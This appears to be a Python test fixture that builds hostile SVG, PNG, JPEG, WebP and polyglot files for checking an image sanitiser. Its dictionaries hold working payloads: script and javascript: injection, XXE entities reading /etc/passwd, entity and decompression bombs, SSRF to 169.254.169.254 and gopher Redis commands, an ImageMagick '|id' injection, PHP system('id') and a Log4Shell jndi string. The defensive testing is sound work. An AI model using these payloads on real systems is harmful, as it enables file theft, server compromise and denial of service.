"""Drawings and pictures that nobody should send: each wants something, and gets nothing."""

import base64
import io
import re
import struct
import zlib
from typing import Any

from PIL import Image

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RED = '<rect width="200" height="100" fill="#d00"/>'


def drawing(inner: str, *, attributes: str = 'viewBox="0 0 200 100"', before: str = "") -> bytes:
    return f"{before}<svg {SVG} {attributes}>{inner}</svg>".encode()


def small_png(size: tuple[int, int] = (20, 10)) -> str:
    out = io.BytesIO()
    Image.new("RGB", size, "#00d000").save(out, "PNG")
    return base64.b64encode(out.getvalue()).decode()


NESTED_USES = "".join(
    f'<g id="u{level}">' + f'<use href="#u{level - 1}"/>' * 10 + "</g>" if level else f'<g id="u0">{RED}</g>'
    for level in range(9)
)
HIDDEN_SVG = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><image href="/etc/passwd"/></svg>').decode()

REFUSED = {
    "script": drawing(RED + "<script>alert(1)</script>"),
    "script of another namespace": drawing(RED + '<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>'),
    "script inside metadata": drawing(RED + "<metadata><script>1</script></metadata>"),
    "onload": drawing(RED, attributes='viewBox="0 0 9 9" onload="alert(1)"'),
    "onclick in capitals": drawing('<rect width="9" height="9" onClick="alert(1)"/>'),
    "foreignObject": drawing(RED + "<foreignObject><iframe src='https://example.org'/></foreignObject>"),
    "javascript address": drawing('<use href=" java\nscript:alert(1)"/>'),
    "animation": drawing('<rect width="9" height="9"><animate attributeName="href" to="javascript:1"/></rect>'),
    "local file": drawing(RED + '<image href="file:///etc/passwd" width="9" height="9"/>'),
    "absolute path": drawing(RED + '<image href="/etc/passwd" width="9" height="9"/>'),
    "path upwards": drawing(RED + '<image xlink:href="../../secret.png" width="9" height="9"/>'),
    "address": drawing(RED + '<image href="http://example.org/a.png" width="9" height="9"/>'),
    "address without scheme": drawing(RED + '<image href="//example.org/a.png" width="9" height="9"/>'),
    "use of another file": drawing('<use href="other.svg#a"/>'),
    "embedded drawing": drawing(f'<image href="data:image/svg+xml;base64,{HIDDEN_SVG}" width="9" height="9"/>'),
    "drawing disguised as png": drawing(f'<image href="data:image/png;base64,{HIDDEN_SVG}" width="9" height="9"/>'),
    "import": drawing(RED + "<style>@import url(https://example.org/a.css);</style>"),
    "font-face": drawing(RED + "<style>@font-face{font-family:a;src:url(https://example.org/a)}</style>"),
    "url in style": drawing('<rect style="fill:url(https://example.org/#a)" width="9" height="9"/>'),
    "url behind a comment": drawing('<rect style="fill:u/**/rl(//example.org/)" width="9" height="9"/>'),
    "url behind an escape": drawing(r'<rect style="fill:\75rl(//example.org/)" width="9" height="9"/>'),
    "url in an attribute": drawing('<rect fill="url(/etc/passwd#a)" width="9" height="9"/>'),
    "url left open": drawing('<rect fill="url(//example.org" width="9" height="9"/>'),
    "style sheet instruction": drawing(RED, before='<?xml-stylesheet href="https://example.org/a.css"?>'),
    "xml base": drawing(RED, attributes='viewBox="0 0 9 9" xml:base="https://example.org/"'),
    "external entity": drawing(RED + "<g>&x;</g>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "entity bomb": drawing(
        "<g>&c;</g>",
        before='<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    ),
    "parameter entity": drawing(RED, before='<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://example.org/d"> %p;]>'),
    "live text": drawing('<text x="5" y="50">Name</text>'),
    "blur upon blur": drawing(
        '<filter id="f"><feGaussianBlur stdDeviation="999"/></filter>' + '<g filter="url(#f)">' * 20 + RED + "</g>" * 20
    ),
    "filter in style": drawing('<rect style="filter:blur(9px)" width="9" height="9"/>'),
    "links of links": drawing(NESTED_USES),
    "a circle of links": drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "too deep": drawing("<g>" * 400 + RED + "</g>" * 400),
    "too many": drawing("<path d='M0 0'/>" * 6000),
    "no size": drawing(RED, attributes=""),
    "no area": drawing(RED, attributes='viewBox="0 0 0 0"'),
    "a line": drawing(RED, attributes='viewBox="0 0 5000 1"'),
}
# The others may also be drawn, as long as nothing of what they want happens.
DRAWINGS = {
    **REFUSED,
    "cdata script": drawing(RED + "<script><![CDATA[fetch('//example.org')]]></script>"),
    "script by a data address": drawing(RED + '<script href="data:text/javascript,1"/>'),
    "link of a page": drawing(RED + '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    "set": drawing('<rect width="9" height="9"><set attributeName="onclick" to="alert(1)"/></rect>'),
    "iframe": drawing(RED + '<iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/>'),
    "a style sheet of a page": drawing(RED + '<link xmlns="http://www.w3.org/1999/xhtml" href="//example.org/a.css"/>'),
    "feImage": drawing(
        '<filter id="f"><feImage href="file:///etc/passwd"/></filter><g filter="url(#f)">' + RED + "</g>"
    ),
    "pattern of another file": drawing(
        '<pattern id="p" href="/etc/passwd#p"/><rect width="9" height="9" fill="url(#p)"/>'
    ),
    "gradient of another file": drawing(
        '<linearGradient id="g" href="http://example.org/#g"/><rect width="9" height="9" fill="url(#g)"/>'
    ),
    "mask of an address": drawing('<rect width="9" height="9" mask="url(http://example.org/#m)"/>'),
    "cursor": drawing('<rect width="9" height="9" style="cursor:url(http://example.org/a.cur),auto"/>'),
    "marker of a file": drawing('<path d="M0 0h9" stroke="red" marker-start="url(file:///etc/passwd#m)"/>'),
    "image-set": drawing('<rect width="9" height="9" style="fill:image-set(\'//example.org/a\' 1x)"/>'),
    "namespace with a file": drawing(RED + '<g xmlns:x="file:///etc/passwd"><x:a/></g>'),
    "xinclude": drawing(RED + '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
    "device file": drawing(RED + '<image href="/dev/zero" width="9" height="9"/>'),
    "a share of Windows": drawing(RED + '<image href="\\\\example.org\\a.png" width="9" height="9"/>'),
    "gopher": drawing(RED + '<image href="gopher://127.0.0.1:6379/_FLUSHALL" width="9" height="9"/>'),
    "the machine beside": drawing(RED + '<image href="http://169.254.169.254/latest/meta-data" width="9" height="9"/>'),
    "picture bomb": drawing(f'<image href="data:image/png;base64,{small_png((9_000, 9_000))}" width="9" height="9"/>'),
    "quadratic entities": drawing(
        "<g>" + "&a;" * 500 + "</g>", before='<!DOCTYPE svg [<!ENTITY a "' + "a" * 5000 + '">]>'
    ),
    "a number without end": drawing('<rect width="1e308" height="1e308"/>', attributes='viewBox="0 0 1e308 1e-308"'),
    "no number": drawing('<rect width="NaN" height="Infinity" transform="scale(1e400)"/>'),
    "a path of a hundred thousand": drawing('<path d="M0 0' + "L9 9" * 100_000 + '"/>'),
    "dashes of nothing": drawing('<path d="M0 0H1e6" stroke="red" stroke-width="5" stroke-dasharray="1e-9"/>'),
    "patterns in patterns": drawing(
        "".join(
            f'<pattern id="p{at}" width=".1" height=".1"><rect width="99" height="9" fill="url(#p{at + 1})"/></pattern>'
            for at in range(9)
        )
        + '<rect width="200" height="100" fill="url(#p0)"/>'
    ),
    "half of a character": drawing(RED).replace(b"<rect", b"<!-- \xed\xa0\x80 --><rect"),
    "another alphabet than it says": drawing(RED, before='<?xml version="1.0" encoding="utf-7"?>'),
    "NUL": drawing(RED).replace(b"#d00", b"#d\x0000"),
}


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def header(width: int, height: int, depth: int = 8, colour: int = 2, interlaced: int = 0) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlaced))


def png(
    *chunks: bytes, size: tuple[int, int] = (9, 9), lines: bytes | None = None, after: bytes = b"", **told: int
) -> bytes:
    """A small red one, with these chunks before its pixels."""
    pixels = zlib.compress((b"\x00" + b"\xd0\x00\x00" * 9) * 9) if lines is None else lines
    whole = (header(*size, **told), *chunks, chunk(b"IDAT", pixels), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(whole) + after


def jpeg(*segments: tuple[int, bytes], after: bytes = b"", **saving: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "#d00000").save(out, "JPEG", **saving)
    plain = out.getvalue()
    told = b"".join(b"\xff" + bytes([mark]) + struct.pack(">H", len(data) + 2) + data for mark, data in segments)
    return plain[:2] + told + plain[2:] + after


def webp(**saving: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "#d00000").save(out, "WEBP", **saving)
    return out.getvalue()


def exif(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    """Little-endian TIFF: tag, type, count, value; `following` is where the next directory is said to be."""
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return (
        b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + body + struct.pack("<I", following)
    )


PLANTED = b"planted <script>alert(1)</script> <?php system('id'); ?> ${jndi:ldap://example.org/a}"
ZIP = b"PK\x03\x04" + b"\x00" * 26 + PLANTED
# Each may be refused or drawn; nothing of PLANTED comes out, and nothing happens.
RASTERS: dict[str, bytes] = {
    "PNG: words": png(chunk(b"tEXt", b"Comment\x00" + PLANTED)),
    "PNG: packed words": png(chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(PLANTED))),
    "PNG: a bomb of words": png(chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"a" * 200_000_000))),
    "PNG: XMP": png(chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + PLANTED)),
    "PNG: EXIF": png(chunk(b"eXIf", exif((0x8769, 4, 1, 8))[6:] + PLANTED)),
    "PNG: a broken profile": png(chunk(b"iCCP", b"a\x00\x00" + zlib.compress(PLANTED))),
    "PNG: a bomb of a profile": png(chunk(b"iCCP", b"a\x00\x00" + zlib.compress(b"\x00" * 200_000_000))),
    "PNG: an archive behind it": png(after=ZIP),
    "PNG: a page behind it": png(after=b"<html>" + PLANTED),
    "PNG: a chunk of nobody's": png(chunk(b"plNt", PLANTED)),
    "PNG: 121 megapixels": png(lines=zlib.compress(b"\x00" * 15_136_000), size=(11_000, 11_000), depth=1, colour=0),
    "PNG: claims 2,500 megapixels": png(size=(50_000, 50_000)),
    "PNG: claims four billion": png(size=(2**31 - 1, 2**31 - 1)),
    "PNG: no width": png(size=(0, 9)),
    "PNG: more pixels than there are": png(lines=zlib.compress(b"\x00" * 50_000_000)),
    "PNG: fewer pixels than there are": png(size=(4_000, 4_000)),
    "PNG: no such colour": png(colour=7),
    "PNG: no such depth": png(depth=5),
    "PNG: a palette of nothing": png(colour=3),
    "PNG: a palette too long": png(chunk(b"PLTE", b"\x00" * 3_000), colour=3),
    "PNG: clear before its palette": png(chunk(b"tRNS", b"\x00" * 300), colour=3),
    "PNG: woven": png(interlaced=1),
    "PNG: woven in another way": png(interlaced=9),
    "PNG: a chunk as long as memory": png()[:33] + b"\x7f\xff\xff\xffIDAT" + PLANTED,
    "PNG: a wrong checksum": png().replace(b"IEND\xaeB", b"IEND\x00B"),
    "PNG: two headers": png(header(60_000, 60_000)),
    "PNG: gamma of nothing": png(chunk(b"gAMA", b"\x00" * 4)),
    "PNG: a thousand frames": png(chunk(b"acTL", struct.pack(">II", 1_000, 0)), chunk(b"fcTL", b"\x00" * 26)),
    "PNG: pixels that are none": png(lines=PLANTED),
    "PNG: broken off": png()[:60],
    "JPEG: a comment": jpeg((0xFE, PLANTED)),
    "JPEG: XMP": jpeg((0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + PLANTED)),
    "JPEG: a position": jpeg((0xE1, exif((0x8825, 4, 1, 26)) + PLANTED)),
    "JPEG: turned nine ways": jpeg((0xE1, exif((0x0112, 3, 1, 9)))),
    "JPEG: a directory in itself": jpeg((0xE1, exif((0x8769, 4, 1, 8), (0xA005, 4, 1, 8), following=8))),
    "JPEG: a directory of everything": jpeg((0xE1, exif(*[(0x010E, 2, 2**31, 8)] * 2_000))),
    "JPEG: a profile in parts that miss": jpeg((0xE2, b"ICC_PROFILE\x00\x02\x09" + PLANTED)),
    "JPEG: what Photoshop keeps": jpeg((0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x7f\xff\xff\xff" + PLANTED)),
    "JPEG: several pictures": jpeg((0xE2, b"MPF\x00II*\x00\xff\xff\xff\x7f" + PLANTED)),
    "JPEG: a script behind it": jpeg(after=PLANTED),
    "JPEG: 65,500 pixels a side": re.sub(
        rb"(\xff\xc0\x00\x11\x08)....", lambda found: found[1] + b"\xff\xdc\xff\xdc", jpeg(), flags=re.DOTALL
    ),
    "JPEG: no components": re.sub(
        rb"(\xff\xc0\x00\x11\x08....)\x03", lambda found: found[1] + b"\x00", jpeg(), flags=re.DOTALL
    ),
    "JPEG: tables that are none": jpeg((0xC4, b"\xff" * 300), (0xDB, b"\xff" * 300)),
    "JPEG: a thousand scans": jpeg(progressive=True).replace(b"\xff\xd9", b"") * 200,
    "JPEG: broken off": jpeg()[:400],
    "JPEG: a page": b"\xff\xd8\xff\xe0" + PLANTED,
    "WebP: XMP": webp(xmp=PLANTED),
    "WebP: EXIF": webp(exif=exif((0x8769, 4, 1, 8)) + PLANTED),
    "WebP: a profile": webp(icc_profile=PLANTED),
    "WebP: claims 4 GB": b"RIFF\xff\xff\xff\xffWEBPVP8X" + PLANTED,
    "WebP: claims 268 megapixels": b"RIFF\x1e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x10\x00\x00\x00"
    + b"\xff\x3f\x00" * 2
    + PLANTED,
    "WebP: without loss, broken": webp(lossless=True)[:40] + PLANTED,
    "a GIF that is a script": b"GIF89a=1;" + PLANTED,
    "a TIFF of one directory for ever": b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00" + PLANTED,
    "orders for ImageMagick": b"push graphic-context\nfill 'url(https://example.org/\"|id\")'\npop graphic-context"
    + PLANTED,
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file " + PLANTED,
    "a drawing that was packed": b"\x1f\x8b\x08\x00" + PLANTED,
    "a Photoshop file": b"8BPS\x00\x01" + PLANTED,
    "an icon": b"\x00\x00\x01\x00\x01\x00" + PLANTED,
    "a bitmap of minus one": b"BM" + b"\xff" * 4 + b"\x00" * 4 + PLANTED,
    "a page": b"<!doctype html>" + PLANTED,
    "a program": b"\x7fELF\x02\x01\x01" + PLANTED,
}
